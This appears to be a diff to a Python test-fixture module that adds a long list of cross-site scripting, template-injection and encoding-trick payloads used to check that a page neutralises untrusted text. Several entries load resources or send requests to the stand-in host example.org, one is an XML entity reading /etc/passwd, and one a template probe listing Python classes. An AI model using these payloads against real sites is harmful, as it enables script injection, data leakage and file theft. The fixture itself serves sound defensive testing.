@@ -1,4 +1,8 @@
-"""Texts that a spreadsheet may take for a formula or a link, and some that a browser may take for a script."""
+"""Texts that a spreadsheet may take for a formula or a link, and those that a browser may take for more than text.
+
+Each of ``MARKUP`` that a browser obeys says so: it sets ``__pwned``, asks something of a network, opens a dialog, or
+makes an element, an attribute or a style that no page of ours has.
+"""
 
 PAYLOADS = [
     "=1+1",
@@ -54,4 +58,108 @@ SCRIPTS = [
     '"><svg onload=alert(1)>',
     "<a href='javascript:alert(1)'>x</a>",
     "{{ 7 * 7 }}{% raw %}",
+]
+MARKUP = [
+    # what starts a script
+    "<script>window.__pwned=1</script>",
+    "<ScRiPt>window.__pwned=1</sCrIpT>",
+    "<script src=//example.org/x.js></script>",
+    "<script >window.__pwned=1</script >",
+    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
+    "<<script>window.__pwned=1//<</script>",
+    "<script\x0c>window.__pwned=1</script>",
+    "<script/x>window.__pwned=1</script>",
+    "</script><script>window.__pwned=1</script>",
+    "<script type=module>import '//example.org/x.js'</script>",
+    # what ends what a page has open
+    "</title><script>window.__pwned=1</script>",
+    "</style><script>window.__pwned=1</script>",
+    "</svg><script>window.__pwned=1</script>",
+    "</table></div></main><script>window.__pwned=1</script>",
+    "</textarea></noscript></template><img src=x onerror=window.__pwned=1>",
+    "--><script>window.__pwned=1</script>",
+    "<!--><script>window.__pwned=1</script>-->",
+    "]]><script>window.__pwned=1</script>",
+    "<![CDATA[<script>window.__pwned=1</script>]]>",
+    "<?xml-stylesheet href='//example.org/x.css'?>",
+    "<!DOCTYPE html><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
+    # what ends an attribute
+    '" autofocus onfocus=window.__pwned=1 x="',
+    "' autofocus onfocus=window.__pwned=1 x='",
+    '"><svg onload=window.__pwned=1>',
+    "'><svg onload=window.__pwned=1>",
+    "` onmouseover=window.__pwned=1 x=`",
+    "x tabindex=0 onfocus=window.__pwned=1",
+    '"style="position:fixed;inset:0;background:url(//example.org/x)',
+    # what happens
+    "<img src=x onerror=window.__pwned=1>",
+    "<img src=`x`onerror=window.__pwned=1>",
+    "<img/src=x/onerror=window.__pwned=1>",
+    "<body onload=window.__pwned=1>",
+    "<details open ontoggle=window.__pwned=1>",
+    "<input autofocus onfocus=window.__pwned=1>",
+    "<video><source onerror=window.__pwned=1></video>",
+    "<audio src=x onerror=window.__pwned=1>",
+    "<marquee onstart=window.__pwned=1>",
+    "<style onload=window.__pwned=1></style>",
+    "<b style=animation-name:x onanimationstart=window.__pwned=1>",
+    "<p id=x popover onbeforetoggle=window.__pwned=1>",
+    # other languages inside a page
+    "<svg><script>window.__pwned=1</script></svg>",
+    "<svg><script href=data:text/javascript,window.__pwned=1 /></svg>",
+    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:window.__pwned=1><text y=20>Oak</text></a></svg>",
+    "<svg><foreignObject><img src=x onerror=window.__pwned=1></foreignObject></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.__pwned=1>'>",
+    "<math href=javascript:window.__pwned=1>Oak</math>",
+    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.__pwned=1>",
+    # links and frames
+    "javascript:window.__pwned=1",
+    "<a href=javascript:window.__pwned=1>Oak</a>",
+    "<a href='java&#x0A;script:window.__pwned=1'>Oak</a>",
+    "<a href=data:text/html,<script>opener.__pwned=1</script>>Oak</a>",
+    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
+    "<iframe src=javascript:parent.__pwned=1></iframe>",
+    "<object data=javascript:window.__pwned=1></object>",
+    "<embed src=//example.org/x.svg>",
+    "<form action=//example.org/><button autofocus>Oak</button></form>",
+    "<meta http-equiv=refresh content='0;url=//example.org/'>",
+    '<meta http-equiv=Content-Security-Policy content="script-src *">',
+    "<base href=//example.org/>",
+    "<link rel=stylesheet href=//example.org/x.css>",
+    "<link rel=prefetch href=//example.org/x>",
+    # styles
+    "<style>@import '//example.org/x.css';</style>",
+    "<style>*{background:url(//example.org/x)}body{display:none}</style>",
+    "}*{background:url(//example.org/x)}/*",
+    "\\3c script\\3e window.__pwned=1",
+    "expression(window.__pwned=1)",
+    # what a template, or one more decoding, would turn into something
+    "{{ 7 * 7 }}{% raw %}",
+    "{% include 'report.css' %}{# x #}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "${window.__pwned=1}<%= 7*7 %>#{7*7}",
+    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
+    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
+    "&amp;lt;img src=x onerror=window.__pwned=1&amp;gt;",
+    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
+    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
+    "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-",
+    "\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e",
+    "$\\mathdefault{x}$_{y}^2",
+    # what is not seen, or turns what is
+    "Oak\x00<script>window.__pwned=1</script>",
+    "<scr\x00ipt>window.__pwned=1</scr\x00ipt>",
+    "Oak \u202eloohcs\u202c \u2066<b>\u2069",
+    "\u2028<script>window.__pwned=1</script>\u2029",
+    "\x1b[2J\x1b]8;;http://example.org\x07Oak",
+    "\x80\x9f<b>Oak</b>\xad",
+    # several at once
+    (
+        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__pwned=1 )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt"
+        "/--!>\\x3csVg/<sVg/oNloAd=window.__pwned=1//>\\x3e"
+    ),
+    "'\"--></style></script><svg oNload=window.__pwned=1>{{7*7}}&quot;&apos;",
 ]
